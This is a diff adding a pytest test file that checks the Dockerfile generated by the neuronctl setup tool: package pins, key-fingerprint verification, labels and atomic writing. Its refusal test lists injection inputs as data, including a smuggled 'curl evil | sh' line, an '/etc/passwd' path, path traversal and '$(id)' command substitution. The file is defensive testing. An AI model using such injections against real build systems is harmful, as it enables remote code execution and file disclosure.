@@ -1,0 +1,117 @@
+"""`neuronctl setup --dockerfile`: hadolint is not in Debian, so the Dockerfile is parsed here
+(instructions, continuation lines, LABEL pairs) and checked: every user-space package pinned to
+the release's version, never the driver, the key checked by fingerprint before it is trusted,
+the Python stack from the lock, the labels doctor reads."""
+
+from __future__ import annotations
+
+import re
+import shlex
+import subprocess
+
+import pytest
+
+from neuronctl.manifest import load_bundled_manifest
+from neuronctl.ops.setup.dockerfile import LABELS, render_dockerfile
+from neuronctl.ops.setup.repos import KEY_FINGERPRINT
+
+INSTRUCTIONS = {"FROM", "LABEL", "ARG", "SHELL", "RUN", "ENV", "COPY"}
+
+
+def parse(text: str) -> list[tuple[str, str]]:
+    """(instruction, arguments) with continuation lines joined; comments dropped."""
+    out: list[tuple[str, str]] = []
+    pending = ""
+    for line in text.splitlines():
+        if not pending and (not line.strip() or line.lstrip().startswith("#")):
+            continue
+        pending += line.rstrip("\\").rstrip() + " " if line.endswith("\\") else line
+        if line.endswith("\\"):
+            continue
+        word, _, rest = pending.strip().partition(" ")
+        out.append((word, rest.strip()))
+        pending = ""
+    assert not pending, "a continuation line ends the file"
+    return out
+
+
+def labels(parsed: list[tuple[str, str]]) -> dict[str, str]:
+    found: dict[str, str] = {}
+    for word, rest in parsed:
+        if word == "LABEL":
+            for pair in shlex.split(rest):
+                key, _, value = pair.partition("=")
+                found[key] = value
+    return found
+
+
+def run_lines(parsed: list[tuple[str, str]]) -> str:
+    return "\n".join(rest for word, rest in parsed if word == "RUN")
+
+
+PUBLISHED = [r.version for r in load_bundled_manifest().releases if r.system]
+
+
+@pytest.mark.parametrize("version", [*PUBLISHED[:6], "2.22.1"])
+def test_every_pin_label_and_instruction(version):
+    release = load_bundled_manifest().get(version)
+    text = render_dockerfile(release, base="ubuntu:26.04", lock="locks/pylock.toml", repo=None,
+                             fingerprint=KEY_FINGERPRINT)
+    parsed = parse(text)
+    assert {w for w, _ in parsed} <= INSTRUCTIONS
+    assert parsed[0] == ("FROM", "ubuntu:26.04")
+    found = labels(parsed)
+    assert set(found) == {f"com.neuronctl.{k}" for k in LABELS}
+    system = release.system
+    assert found["com.neuronctl.release"] == version
+    assert found["com.neuronctl.runtime"] == system["aws-neuronx-runtime-lib"]
+    assert found["com.neuronctl.collectives"] == system["aws-neuronx-collectives"]
+    assert found["com.neuronctl.tools"] == system["aws-neuronx-tools"]
+    assert found["com.neuronctl.driver"] == system["aws-neuronx-dkms"]
+    assert found["com.neuronctl.lock"] == "locks/pylock.toml"
+    from packaging.specifiers import SpecifierSet
+
+    SpecifierSet(found["com.neuronctl.driver-range"])  # a range doctor can read
+    runs = run_lines(parsed)
+    pins = re.findall(r"'(aws-neuron[a-z-]*)=([0-9.]+)\*'", runs)
+    assert sorted(pins) == sorted((p, system[p]) for p in
+                                  ("aws-neuronx-runtime-lib", "aws-neuronx-collectives",
+                                   "aws-neuronx-tools"))
+    assert "dkms" not in runs  # never the driver
+    assert runs.index("$NEURON_KEY_FPR") < runs.index("--dearmor")  # checked before trusted
+    assert ("ARG", f"NEURON_KEY_FPR={KEY_FINGERPRINT}") in parsed
+    assert ("COPY", "locks/pylock.toml /opt/neuronctl/pylock.toml") in parsed
+    assert "neuronctl install --lock /opt/neuronctl/pylock.toml" in runs
+    for word, rest in parsed:
+        if word == "RUN":  # one && chain: a failure anywhere fails the build
+            body = rest.replace("'$1 == \"pub\" { p = 1; next } $1 == \"fpr\" && p { print $10; "
+                                "p = 0 }'", "AWK")
+            assert subprocess.run(["sh", "-n", "-c", body], check=False).returncode == 0
+
+
+def test_amazon_linux_base_uses_dnf():
+    release = load_bundled_manifest().get("2.33.1")
+    runs = run_lines(parse(render_dockerfile(release, base="amazonlinux:2023", lock="pylock.toml",
+                                             repo=None, fingerprint=KEY_FINGERPRINT)))
+    assert "dnf install -y aws-neuronx-runtime-lib-2.35.33.0 aws-neuronx-collectives-2.35.49.0" in runs
+    assert "yum.repos.neuron.amazonaws.com" in render_dockerfile(
+        release, base="amazonlinux:2023", lock="pylock.toml", repo=None,
+        fingerprint=KEY_FINGERPRINT)
+
+
+@pytest.mark.parametrize("args", [
+    ["--base", "ubuntu:26.04\nRUN curl evil | sh"], ["--lock", "../outside.toml"],
+    ["--lock", "/etc/passwd"], ["--yes"], ["--with-python"], ["--release", "2.34.0"],
+    ["--repo", "https://m.example/$(id)"]])
+def test_dockerfile_refusals(cli, args, tmp_path):
+    out = tmp_path / "Dockerfile"
+    result = cli("setup", "--dockerfile", *args, "-o", str(out))
+    assert result.code == 2, result.err
+    assert not out.exists()
+
+
+def test_dockerfile_written_atomically(cli, tmp_path):
+    out = tmp_path / "Dockerfile"
+    assert cli("setup", "--dockerfile", "-o", str(out)).code == 0
+    assert out.read_text().startswith("# syntax=docker/dockerfile:1\n")
+    assert [p.name for p in tmp_path.iterdir()] == ["Dockerfile"]
